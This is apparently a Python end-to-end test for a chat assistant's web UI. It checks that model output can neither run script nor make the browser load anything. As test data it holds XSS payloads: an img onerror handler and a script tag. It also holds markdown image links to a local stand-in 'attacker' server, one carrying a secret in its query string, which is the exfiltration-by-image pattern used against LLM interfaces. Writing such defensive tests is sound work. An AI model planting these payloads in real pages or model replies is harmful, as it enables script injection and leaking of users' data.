"""Model output in the real UI cannot run script or make the browser fetch anything (OWASP
LLM05): the scripted model (which echoes a message it has no rule for) answers with an
`<img onerror>`, a `<script>` and markdown images pointing at a listening "attacker" server on
another origin, through the real streaming path. Nothing runs, no <img> appears, the attacker
server is never asked for anything, and the page itself runs clean under the UI's
Content-Security-Policy (no violations reported). Screenshot: tests/artifacts/ui-output.png."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.e2e import test_ui
from tests.e2e.test_ui import ARTIFACTS, desktop_page, send, wait_until_idle

pytestmark = pytest.mark.e2e

browser = test_ui.browser  # the same module-scoped Chromium fixture


class Attacker(BaseHTTPRequestHandler):
    paths: ClassVar[list[str]] = []

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        type(self).paths.append(self.path)
        self.send_response(204)
        self.end_headers()


@pytest.fixture
def attacker() -> Iterator[str]:
    Attacker.paths = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def page(browser: Browser, scripted_server) -> Iterator[Page]:
    yield from desktop_page(browser, scripted_server)


def test_model_output_runs_nothing_and_loads_nothing(page: Page, scripted_server, attacker):
    requests: list[str] = []
    violations: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("console", lambda m: "Content Security Policy" in m.text and violations.append(m.text))
    reply = (
        'Here: <img src=x onerror="window.__pwned = 1"> <script>window.__pwned = 2</script>\n\n'
        f"![chart]({attacker}/chart.png?q=the-secret-code-word)\n\n"
        f'<img src="{attacker}/raw.png"> and a link [docs]({attacker}/docs)'
    )
    send(page, reply)  # no script rule matches it: the scripted model says it back
    wait_until_idle(page)
    answer = page.get_by_test_id("message-assistant").last
    expect(answer).to_contain_text("onerror=")  # shown as text, not dropped
    # A markdown image is at most a link: followed only if the user clicks it, never loaded.
    expect(answer.get_by_role("link", name="chart")).to_have_attribute("rel", "noopener noreferrer")
    expect(answer.locator("img, script, iframe, object")).to_have_count(0)
    expect(answer.locator("[onerror], [onload]")).to_have_count(0)
    page.wait_for_timeout(300)  # give any stray image load a moment to be issued (not timed)
    page.screenshot(path=str(ARTIFACTS / "ui-output.png"), animations="disabled")
    assert page.evaluate("window.__pwned") is None
    assert Attacker.paths == [], "the browser fetched from the attacker's server"
    assert all(url.startswith(scripted_server.base_url) for url in requests), requests
    assert violations == []


def test_the_ui_is_served_with_its_security_headers(scripted_server):
    for path in ("/", "/static/app.js"):
        headers = httpx.get(scripted_server.base_url + path).headers
        policy = headers["content-security-policy"]
        assert "img-src 'self' data:" in policy and "script-src 'self';" in policy, policy
        assert "frame-ancestors 'none'" in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
    api = httpx.get(f"{scripted_server.api_url}/models").headers
    assert api["x-content-type-options"] == "nosniff"
    assert "content-security-policy" not in api  # the API serves JSON, not pages
